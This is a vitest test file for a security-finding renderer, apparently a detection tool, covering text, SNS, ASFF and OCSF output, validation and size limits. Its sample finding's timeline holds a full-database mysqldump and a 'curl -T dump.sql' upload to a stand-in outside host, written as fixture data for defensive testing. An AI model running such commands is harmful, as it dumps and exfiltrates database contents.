import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  documentBytes,
  findingJsonSchema,
  fitFinding,
  messageBytes,
  mostDocumentBytes,
  mostMessageBytes,
  parseFinding,
  renderAsff,
  renderOcsf,
  renderSnsMessage,
  renderText,
  validateAsff,
} from '../../lib/finding/index.ts';
import { generatedFinding } from './generated-finding.ts';
import { finding, makeDump, midnight, second } from './samples.ts';

const place = { partition: 'aws', account: '123456789012', region: 'eu-west-1' } as const;
const times = { createdAt: midnight, updatedAt: midnight + second };
const asff = (one = finding()) => renderAsff(one, { place, ...times });
const plain = (value: object) => JSON.parse(JSON.stringify(value));

describe('docs/finding.schema.json', () => {
  it('is what the code reads by', () => {
    const path = join(import.meta.dirname, '../../docs/finding.schema.json');
    expect(JSON.parse(readFileSync(path, 'utf8'))).toEqual(findingJsonSchema());
  });

  it.each([
    ['an unknown severity', { severity: 'urgent' }, /severity/],
    ['no revision', { revision: undefined }, /revision/],
    ['a time without a zone', { firstSeen: '2026-01-01 00:00' }, /firstSeen/],
  ])('refuses %s', (_, change, message) => expect(() => parseFinding({ ...finding(), ...change })).toThrow(message));
});

describe('text', () => {
  it('tells a person what happened and what to do', () => {
    expect(renderText(makeDump(), 'escalated')).toMatchInlineSnapshot(`
      "[HIGH, escalated] Database dumped by deploy

      curl ran on db-3 as \`curl -T dump.sql https://files.example\`.

      Why it matters:
        Whoever has the dump of db-3 has all of its rows.

      host     db-3
      user     deploy
      events   2 from 2026-03-01T00:00:00.000Z to 2026-03-01T00:01:00.000Z
      rule     db-dump (sigma)
      ATT&CK   collection, T1213.006
      account  123456789012 eu-west-1
      rules    2
      finding  f1, revision 1

      Timeline:
        2026-03-01T00:00:00.000Z  dump  ecs  mysqldump -u root -p*** --all-databases
        2026-03-01T00:01:00.000Z  transfer  ecs  curl -T dump.sql https://files.example

      Not seen:
        - No network telemetry of db-3.

      What to check:
        1. Ask deploy about unknown

      Why high:
        Dumps are also taken by deploy for good reasons.

      Known false positives:
        - Backups

      How to respond:
        1. Isolate db-3

      References:
        https://attack.mitre.org/techniques/T1213/006/
      "
    `);
  });
});

describe('SNS', () => {
  it('carries text for people, the document for programs, and attributes for filters', () => {
    const { subject, message, attributes } = renderSnsMessage(finding(), 'new');
    const { default: document, email, sms } = JSON.parse(message);
    expect(subject).toBe('[HIGH] Database dumped by deploy (db-3, deploy)');
    expect(JSON.parse(document)).toEqual(finding());
    expect(email).toBe(renderText(finding(), 'new'));
    expect(sms).toBe(subject);
    expect(Object.fromEntries(Object.entries(attributes).map(([name, { value }]) => [name, value]))).toEqual({
      severity: 'high',
      rule: 'db-dump',
      tactic: 'collection',
      account: '123456789012',
      region: 'eu-west-1',
      state: 'active',
      source: 'ecs',
      finding: 'f1',
    });
  });

  it('lists several tactics, and leaves out what is unknown', () => {
    const { attributes } = renderSnsMessage(
      finding({ attack: { tactics: ['impact', 'collection'], techniques: [] }, account: '' }),
      null,
    );
    expect(attributes.tactic).toEqual({ type: 'String.Array', value: '["impact","collection"]' });
    expect(attributes).not.toHaveProperty('account');
  });
});

describe('ASFF', () => {
  it('passes for the sample, and keeps what the analyst has set', () => {
    const rendered = asff();
    expect(validateAsff(plain(rendered), place)).toEqual([]);
    expect(rendered).not.toHaveProperty('Workflow');
    expect(rendered.FindingProviderFields).toEqual({
      Severity: { Label: 'HIGH', Original: 'high' },
      Types: ['TTPs/Collection'],
    });
  });

  it('is archived when retracted', () => expect(asff(finding({ state: 'retracted' })).RecordState).toBe('ARCHIVED'));

  it('names another origin in the title, the product fields and the resources', () => {
    const rendered = asff(finding({ account: '210987654321', region: 'us-east-1' }));
    expect(rendered.AwsAccountId).toBe('123456789012');
    expect(rendered.Title).toBe('Database dumped by deploy (210987654321 us-east-1)');
    expect(rendered.ProductFields).toMatchObject({ 'weir/account': '210987654321', 'weir/region': 'us-east-1' });
    expect(rendered.Resources.at(-1)).toMatchObject({ Type: 'Other', Region: 'us-east-1' });
  });

  it.each([
    ['/aws/rds/instance/shop/error', {}, 'AwsRdsDbInstance', 'arn:aws:rds:eu-west-1:123456789012:db:shop'],
    ['/aws/rds/cluster/shop/audit', {}, 'AwsRdsDbCluster', 'arn:aws:rds:eu-west-1:123456789012:cluster:shop'],
    [
      '/var/log',
      { 'host.id': 'i-0123456789abcdef0' },
      'AwsEc2Instance',
      'arn:aws:ec2:eu-west-1:123456789012:instance/i-0123456789abcdef0',
    ],
    [
      '/ct',
      { 'aws.cloudtrail.user_identity.arn': 'arn:aws:iam::123456789012:user/eve' },
      'AwsIamUser',
      'arn:aws:iam::123456789012:user/eve',
    ],
    [
      '/ct',
      { 'aws.cloudtrail.user_identity.arn': 'arn:aws:sts::123456789012:assumed-role/admin/eve' },
      'AwsIamRole',
      'arn:aws:iam::123456789012:role/admin',
    ],
    ['/falco', { 'container.id': '3ad7b26ded6d', 'container.name': 'db' }, 'Container', '3ad7b26ded6d'],
    ['/falco', { 'container.id': 'host' }, 'Other', 'host=db-3,user=deploy'],
  ])('%s %j is %s', (logGroup, fields, type, id) => {
    const evidence = finding().evidence.map(one => ({ ...one, logGroup, fields }));
    const rendered = asff(finding({ evidence }));
    expect(rendered.Resources[0]).toMatchObject({ Type: type, Id: id });
    expect(validateAsff(plain(rendered), place)).toEqual([]);
  });

  it.each([
    ['an empty recommendation', { Remediation: { Recommendation: { Text: '' } } }, /Text: must not be empty/],
    ['a long title', { Title: 'x'.repeat(257) }, /Title: 257/],
    ['a field it does not know', { Colour: 'red' }, /Colour: not a field/],
    ['another account', { AwsAccountId: '000000000000' }, /AwsAccountId/],
    ['no resource', { Resources: [] }, /Resources: 0 items/],
    ['an unknown type', { FindingProviderFields: { Severity: { Label: 'HIGH' }, Types: ['Bad'] } }, /Types\[0\]/],
    ['no severity', { FindingProviderFields: { Types: ['TTPs'] } }, /Severity: must be an object/],
    ['half a character', { Title: '\ud800' }, /half a character/],
    [
      'too many bytes',
      { ProductFields: Object.fromEntries(Array.from({ length: 50 }, (_, n) => [`k${n}`, '€'.repeat(2048)])) },
      /240 KB/,
    ],
    ['an update before its creation', { UpdatedAt: '2020-01-01T00:00:00.000Z' }, /UpdatedAt/],
  ])('the validator refuses %s', (_, change, message) => {
    expect(validateAsff(plain({ ...asff(), ...change }), place).join('\n')).toMatch(message);
  });
});

describe('OCSF', () => {
  it('is a Detection Finding with its required attributes', () => {
    const rendered = renderOcsf(finding(), times);
    expect(rendered).toMatchObject({
      class_uid: 2004,
      category_uid: 2,
      activity_id: 1,
      type_uid: 200401,
      severity_id: 4,
      status_id: 1,
      time: (midnight + second) / 1000,
      metadata: { version: '1.6.0', product: { vendor_name: 'weir' } },
      finding_info: { uid: 'f1', title: 'Database dumped by deploy' },
      cloud: { provider: 'AWS', region: 'eu-west-1' },
    });
  });

  it('closes what was retracted', () => {
    expect(renderOcsf(finding({ state: 'retracted' }), times)).toMatchObject({
      activity_id: 3,
      type_uid: 200403,
      status_id: 4,
    });
  });
});

describe('whatever a finding holds', () => {
  it('each rendering keeps to the limits of its receiver', () => {
    fc.assert(
      fc.property(generatedFinding, made => {
        const { finding: fitted } = fitFinding(made);
        expect(parseFinding(plain(fitted))).toEqual(plain(fitted));
        expect(documentBytes(fitted)).toBeLessThanOrEqual(mostDocumentBytes);
        expect(fitFinding(fitted)).toEqual({ finding: fitted, wasCut: false });
        expect(validateAsff(plain(asff(fitted)), place)).toEqual([]);
        const message = renderSnsMessage(fitted, 'new');
        expect(messageBytes(message)).toBeLessThanOrEqual(mostMessageBytes);
        expect(message.subject).toMatch(/^[!-~][ -~]{0,99}$/);
        expect(Object.values(message.attributes).every(({ value }) => value.length > 0)).toBe(true);
        expect(`${message.message}${renderText(fitted)}`).not.toMatch(/\p{Surrogate}/u);
        expect(renderOcsf(fitted, times)).toMatchObject({ class_uid: 2004 });
      }),
      { numRuns: Number(process.env.WEIR_RUNS ?? 12) },
    );
  });
});
